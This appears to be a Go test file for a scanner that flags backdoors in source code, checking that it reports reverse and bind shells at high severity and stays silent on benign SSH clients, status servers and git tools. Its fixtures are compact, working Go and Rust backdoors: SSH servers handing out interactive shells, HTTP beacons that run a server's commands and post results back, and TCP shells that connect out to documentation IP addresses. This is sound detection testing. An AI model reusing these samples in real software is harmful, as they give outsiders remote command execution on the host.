package shell

import (
	"fmt"
	"strings"
	"testing"
)

// TestSourceBackdoors: Go SSH servers whose sessions get a shell, Go HTTP beacons running a
// server's commands through a shell, and Rust listeners or connections whose lines are run
// are found at high under RS-016 and RS-019, in several spellings; an SSH client, a server
// running a fixed program, a health reporter running its own command, a Rust server running
// git, stay silent.
func TestSourceBackdoors(t *testing.T) {
	goHead := "package main\n\nimport (\n\t\"io\"\n\t\"os/exec\"\n)\n\n"
	found := map[string]struct{ rule, src string }{
		"glider.go": {RuleGo, goHead + `func main() {
	ssh.Handle(func(s ssh.Session) {
		c := exec.Command("/bin/sh")
		f, err := pty.Start(c)
		if err != nil {
			return
		}
		go func() { io.Copy(f, s) }()
		io.Copy(s, f)
	})
	ssh.ListenAndServe(":2022", nil, ssh.PasswordAuth(func(ctx ssh.Context, pw string) bool { return pw == key }))
}
`},
		"xcrypto.go": {RuleGo, goHead + `func serve(nc net.Conn, signer ssh.Signer) {
	cfg := &ssh.ServerConfig{
		PasswordCallback: func(c ssh.ConnMetadata, p []byte) (*ssh.Permissions, error) { return nil, nil },
		ServerVersion:    "SSH-2.0-OpenSSH_9.2p1 Debian-2+deb12u1",
	}
	cfg.AddHostKey(signer)
	_, chans, reqs, _ := ssh.NewServerConn(nc, cfg)
	go ssh.DiscardRequests(reqs)
	for nch := range chans {
		ch, _, _ := nch.Accept()
		cmd := exec.Command("bash", "-i")
		cmd.Stdin = ch
		cmd.Stdout = ch
		cmd.Stderr = ch
		cmd.Run()
	}
}
`},
		"shellvar.go": {RuleGo, goHead + `var shell = "/bin/zsh"

func handler(sess ssh.Session) {
	cmd := exec.Command(shell, "-i")
	tty, _ := pty.StartWithSize(cmd, &pty.Winsize{Rows: 40, Cols: 120})
	go io.Copy(tty, sess)
	io.Copy(sess, tty)
}

func main() { srv := &ssh.Server{Addr: ":22022", Handler: handler}; srv.ListenAndServe() }
`},
		"beacon-get.go": {RuleGo, goHead + `func loop(server string) {
	for {
		resp, err := http.Get(server + "/tasks")
		if err == nil {
			body, _ := io.ReadAll(resp.Body)
			resp.Body.Close()
			if len(body) > 0 {
				out, _ := exec.Command("sh", "-c", string(body)).CombinedOutput()
				http.Post(server+"/results", "text/plain", bytes.NewReader(out))
			}
		}
		time.Sleep(time.Duration(30+rand.Intn(30)) * time.Second)
	}
}
`},
		"beacon-json.go": {RuleGo, goHead + `type task struct{ ID, Cmd string }

func poll(ctx context.Context, c *http.Client, base string) {
	tick := time.NewTicker(45 * time.Second)
	for range tick.C {
		req, _ := http.NewRequestWithContext(ctx, http.MethodGet, base+"/v1/jobs", nil)
		resp, err := c.Do(req)
		if err != nil {
			continue
		}
		var t task
		json.NewDecoder(resp.Body).Decode(&t)
		out, _ := exec.Command("/bin/bash", "-c", t.Cmd).Output()
		r, _ := http.NewRequestWithContext(ctx, "POST", base+"/v1/jobs/"+t.ID, bytes.NewReader(out))
		c.Do(r)
	}
}
`},
		"beacon-words.go": {RuleGo, goHead + `func run(host string) {
	for {
		resp, err := http.Get("http://" + host + "/c")
		if err != nil {
			time.Sleep(time.Minute)
			continue
		}
		raw, _ := ioutil.ReadAll(resp.Body)
		words := strings.Fields(string(raw))
		if len(words) > 0 {
			out, _ := exec.Command(words[0], words[1:]...).CombinedOutput()
			http.Get("http://" + host + "/r?d=" + base64.URLEncoding.EncodeToString(out))
		}
		time.Sleep(20 * time.Second)
	}
}
`},
		"words-dial.go": {RuleGo, goHead + `func main() {
	c, err := net.Dial("tcp", "203.0.113.9:443")
	if err != nil {
		return
	}
	s := bufio.NewScanner(c)
	for s.Scan() {
		f := strings.Fields(s.Text())
		if len(f) == 0 {
			continue
		}
		out, _ := exec.Command(f[0], f[1:]...).Output()
		c.Write(out)
	}
}
`},
		"words-tls.go": {RuleGo, goHead + `func serve(c net.Conn) {
	defer c.Close()
	rd := bufio.NewReader(c)
	for {
		line, err := rd.ReadString('\n')
		if err != nil {
			return
		}
		args := strings.Split(strings.TrimSpace(line), " ")
		cmd := exec.Command(args[0], args[1:]...)
		res, _ := cmd.CombinedOutput()
		fmt.Fprintf(c, "%s\n", res)
	}
}

func main() {
	ln, _ := tls.Listen("tcp", ":8443", cfg)
	for {
		c, _ := ln.Accept()
		go serve(c)
	}
}
`},
		"bind.rs": {RuleRust, `use std::io::{BufRead, BufReader, Write};
use std::net::TcpListener;
use std::process::Command;

fn main() {
    let l = TcpListener::bind("0.0.0.0:7777").unwrap();
    for s in l.incoming().flatten() {
        let mut w = s.try_clone().unwrap();
        for line in BufReader::new(s).lines().flatten() {
            let o = Command::new("sh").arg("-c").arg(&line).output().unwrap();
            w.write_all(&o.stdout).unwrap();
            w.write_all(&o.stderr).unwrap();
        }
    }
}
`},
		"reverse.rs": {RuleRust, `use std::io::{Read, Write};
use std::net::TcpStream;
use std::process::Command;
fn main() {
    let mut s = TcpStream::connect(("203.0.113.7", 9001)).unwrap();
    let mut b = vec![0u8; 1024];
    loop {
        let n = s.read(&mut b).unwrap_or(0);
        if n == 0 { break; }
        let text = String::from_utf8_lossy(&b[..n]).to_string();
        let parts: Vec<&str> = text.split_whitespace().collect();
        if parts.is_empty() { continue; }
        if let Ok(out) = Command::new(parts[0]).args(&parts[1..]).output() {
            let _ = s.write_all(&out.stdout);
        }
    }
}
`},
		"threads.rs": {RuleRust, `use std::{io::{BufRead, BufReader, Write}, net::{TcpListener, TcpStream}, process::Command, thread};
fn serve(mut c: TcpStream) {
    let mut r = BufReader::new(c.try_clone().unwrap());
    let mut cmd = String::new();
    while r.read_line(&mut cmd).unwrap_or(0) > 0 {
        let out = Command::new("/bin/bash").args(["-c", cmd.trim()]).output();
        if let Ok(o) = out { write!(c, "{}", String::from_utf8_lossy(&o.stdout)).ok(); }
        cmd.clear();
    }
}
fn main() { for c in TcpListener::bind("[::]:31337").unwrap().incoming() { let c = c.unwrap(); thread::spawn(move || serve(c)); } }
`},
	}
	n := 0
	for name, tc := range found {
		for _, shape := range []func(string) string{
			func(s string) string { return s },
			func(s string) string { return strings.ReplaceAll(s, "\n", "\r\n") },
			func(s string) string { return "// generated\n/* a tool */\n" + strings.ReplaceAll(s, "\t", "    ") },
		} {
			n++
			f, ok := kernelSourceFinding("/root/.cache/src/"+name, []byte(shape(tc.src)))
			if !ok || f.Rule != tc.rule || f.Severity.String() != "high" || !f.Is("malware") || f.Category != "reverse-shell" {
				t.Errorf("%s: got %v %s %s %s", name, ok, f.Rule, f.Severity, f.Title)
			}
		}
	}
	silent := map[string]string{
		"ssh-client.go": goHead + "func main() {\n\tc, _ := ssh.Dial(\"tcp\", \"host:22\", cfg)\n\ts, _ := c.NewSession()\n\tout, _ := s.CombinedOutput(\"uptime\")\n\texec.Command(\"/bin/sh\", \"-c\", \"logger done\").Run()\n\t_ = out\n}\n",
		"ssh-app.go":    goHead + "func main() {\n\tssh.Handle(func(s ssh.Session) { io.WriteString(s, \"welcome\\n\"); exec.Command(\"/usr/bin/git-upload-pack\", s.Command()[1]).Run() })\n\tssh.ListenAndServe(\":23231\", nil)\n}\n",
		"ssh-hook.go":   goHead + "func main() {\n\tsrv := &ssh.Server{Addr: \":2222\"}\n\texec.Command(\"/bin/sh\", \"-c\", \"/etc/hooks/start\").Run()\n\tsrv.ListenAndServe()\n}\n",
		"reporter.go":   goHead + "func main() {\n\tfor {\n\t\tout, err := exec.Command(\"sh\", \"-c\", *check).CombinedOutput()\n\t\thttp.Post(*url, \"text/plain\", bytes.NewReader(out))\n\t\t_ = err\n\t\ttime.Sleep(time.Minute)\n\t}\n}\n",
		"fetcher.go":    goHead + "func main() {\n\tresp, _ := http.Get(u)\n\tb, _ := io.ReadAll(resp.Body)\n\tout, _ := exec.Command(\"git\", \"apply\", \"-\").Output()\n\thttp.Post(u, \"a\", bytes.NewReader(append(b, out...)))\n\ttime.Sleep(1)\n}\n",
		"status-srv.go": goHead + "func main() {\n\tln, _ := net.Listen(\"tcp\", \":7000\")\n\tfor {\n\t\tc, _ := ln.Accept()\n\t\tr := bufio.NewReader(c)\n\t\tr.ReadString('\\n')\n\t\tout, _ := exec.Command(\"uptime\").Output()\n\t\tc.Write(out)\n\t}\n}\n",
		"git-srv.rs":    "use std::net::TcpListener;\nuse std::process::Command;\nuse std::io::{BufRead, BufReader, Write};\nfn main() { for s in TcpListener::bind(\"127.0.0.1:9418\").unwrap().incoming() { let mut s = s.unwrap(); let mut l = String::new(); BufReader::new(&s).read_line(&mut l).ok(); let o = Command::new(\"git\").arg(\"status\").output().unwrap(); s.write_all(&o.stdout).ok(); } }\n",
		"cli.rs":        "use std::process::Command;\nfn main() { let a: Vec<String> = std::env::args().collect(); let o = Command::new(&a[1]).output().unwrap(); println!(\"{:?}\", o.stdout); }\n",
	}
	for name, src := range silent {
		if f, ok := kernelSourceFinding("/usr/src/app/"+name, []byte(src)); ok {
			t.Errorf("silent %s: %s %s %s", name, f.Rule, f.Title, f.Evidence)
		}
	}
	fmt.Printf("harness: source-backdoor %d variants, %d silent shapes\n", n, len(silent))
}
